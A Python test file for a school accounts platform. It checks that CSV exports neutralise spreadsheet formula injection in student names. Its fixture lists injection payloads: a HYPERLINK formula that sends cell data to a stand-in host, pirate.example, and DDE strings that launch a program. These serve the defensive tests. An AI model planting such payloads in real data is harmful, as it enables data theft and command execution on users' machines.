"""Issue 9, finding 5: formula injection in CSV exports. A student whose SIECLE name starts with
`=`, `+`, `-` or `@` must reach the class list (`liste-division-*.csv`, downloaded from the
console) and `tsctl accounts list --format csv` as inert text, never as a spreadsheet formula."""
from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import select
from werkzeug.test import Client

from support.bus import reset_memory_broker
from support.notifying import notifier_knows_the_school
from support.pipeline import run_services
from support.settings import settings_for
from support.siecle_files import UAI, student_xml, students_file
from ts_accounts.adapters.siecle import inspect_export
from ts_accounts.service_layer.imports import import_population, source_from_exports
from ts_accounts.service_layer.schools import activate_services, add_school
from ts_accounts.service_layer.staff import create_staff
from ts_notifier.adapters.batches import GeneratedFile
from ts_shared.csv_export import FORMULA_STARTS, SpreadsheetWriter, neutralise
from ts_shared.runtime.cli import cli
from ts_shared.runtime.gateway import Gateway
from ts_shared.runtime.process import Platform

HEAD = ("chef.demo", "une longue phrase de passe")
# What SIECLE could hold (XML text, spaces trimmed by the import): each would run in a spreadsheet.
HOSTILE_NAMES = ['=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def platform(tmp_path):
    reset_memory_broker()
    platform = Platform(settings_for(tmp_path / "data"))
    with platform.runtime("accounts").uow() as uow:
        add_school(uow, uai=UAI, name="Collège Jean Moulin", academy_code="NCY")
        activate_services(uow, UAI)
        create_staff(uow, login=HEAD[0], display_name="Mme Martin", password=HEAD[1], head_of=UAI)
        uow.commit()
    students = [student_xml(str(1001 + n), name.replace("&", "&amp;"), "Léa", "12/03/2013", "6A")
                for n, name in enumerate(HOSTILE_NAMES)]
    export = students_file(tmp_path / "ElevesSansAdresses.xml", students)
    with platform.runtime("accounts").uow() as uow:
        import_population(uow, uai=UAI, source=source_from_exports(UAI, [inspect_export(export)]), actor="test")
        uow.commit()
    run_services(platform, lambda: notifier_knows_the_school(platform))
    yield platform
    platform.dispose()
    reset_memory_broker()


def cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=delimiter))


def assert_inert(rows: list[list[str]]) -> None:
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_a_class_list_downloaded_from_the_console_writes_formula_like_names_as_text(platform):
    client = Client(Gateway({name: spec.create_app(platform.runtime(name))
                             for name, spec in platform.specs.items()}))
    page = client.get("/admin/login").get_data(as_text=True)
    client.post("/admin/login", data={"csrf_token": csrf(page), "login": HEAD[0], "password": HEAD[1]})
    page = client.get("/admin/students/class-lists").get_data(as_text=True)
    response = client.post("/admin/students/class-lists",
                           data={"csrf_token": csrf(page), "kind": "division", "division": "6A", "group": ""})
    assert response.status_code == 302
    batch_id = re.search(r"/batches/([0-9a-f-]+)", response.headers["Location"]).group(1)

    def csv_file():
        with platform.runtime("notifier").uow() as uow:
            return uow.session.scalar(select(GeneratedFile).where(GeneratedFile.batch_id == batch_id,
                                                                  GeneratedFile.kind == "csv"))

    run_services(platform, lambda: csv_file() is not None)
    file = csv_file()
    assert file.filename == "liste-division-6a.csv"
    download = client.get(f"/admin/notifications/files/{file.id}")
    assert download.status_code == 200
    rows = cells(download.get_data(as_text=True), ";")
    assert_inert(rows)
    assert sorted(row[0] for row in rows[1:]) == sorted(f"'{name} Léa" for name in HOSTILE_NAMES)


def test_tsctl_accounts_list_writes_formula_like_names_as_text(platform, monkeypatch):
    monkeypatch.setenv("TS_DATA_DIR", str(platform.settings.data_dir))
    result = CliRunner().invoke(cli, ["accounts", "list", "--uai", UAI, "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = cells(result.output, ",")
    assert_inert(rows)
    assert sorted(row[4] for row in rows[1:]) == sorted(f"'{name} Léa" for name in HOSTILE_NAMES)


@pytest.mark.parametrize("value,written", [
    ("=1+1", "'=1+1"), ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"), ("-1", "'-1"), ("@A1", "'@A1"),
    ("\tTAB", "'\tTAB"), ("\r=1", "'\r=1"), ("Dupont", "Dupont"), ("Jean-Luc", "Jean-Luc"), (None, ""), (12, "12"),
])
def test_the_shared_writer_neutralises_exactly_the_cells_owasp_names(value, written):
    buffer = io.StringIO()
    SpreadsheetWriter(buffer, delimiter=";").writerow([value, "a;b"])
    assert neutralise(value) == written
    assert cells(buffer.getvalue(), ";") == [[written, "a;b"]]  # a separator never opens a new cell


def test_every_csv_the_project_writes_goes_through_the_shared_writer():
    root = Path(__file__).resolve().parent.parent
    sources = [*root.glob("services/*/ts_*/**/*.py"), *root.glob("shared/ts_shared/**/*.py"), *root.glob("bench/*.py")]
    # The shared writer itself, and the import format the synthetic generator writes to be read back.
    allowed = {root / "shared/ts_shared/csv_export.py", root / "services/accounts/ts_accounts/demo/synthetic_siecle.py"}
    writers = [str(path.relative_to(root)) for path in sources
               if path not in allowed and re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))]
    assert sources and writers == []


def csrf(html: str) -> str:
    return re.search(r'name="csrf_token"[^>]*value="([^"]+)"', html).group(1)
